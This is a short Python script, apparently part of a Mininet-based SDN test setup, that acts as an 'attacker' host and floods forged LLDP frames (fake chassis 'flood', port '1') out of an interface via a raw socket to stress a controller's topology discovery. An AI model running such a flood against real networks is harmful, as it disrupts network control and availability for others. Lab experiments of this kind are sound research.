"""Runs inside a Mininet host (the attacker): floods LLDP frames (ethertype 0x88cc, to 01:80:c2:00:00:0e) out of
IFACE as fast as a raw socket sends them, for SECONDS. Prints one JSON line: {"sent": n, "seconds": s}.

usage: flood_lldp.py IFACE SECONDS
"""
import sys

from raw_flood import flood

iface, seconds = sys.argv[1], float(sys.argv[2])
# a well-formed LLDP frame that is not the controller's (chassis "flood", port "1", TTL 120)
frame = (bytes.fromhex("0180c200000e" "02ee00000001" "88cc")
         + bytes([0x02, 0x06, 0x07]) + b"flood" + bytes([0x04, 0x02, 0x07]) + b"1"
         + bytes([0x06, 0x02, 0x00, 0x78, 0x00, 0x00])).ljust(60, b"\0")
flood(iface, frame, seconds)
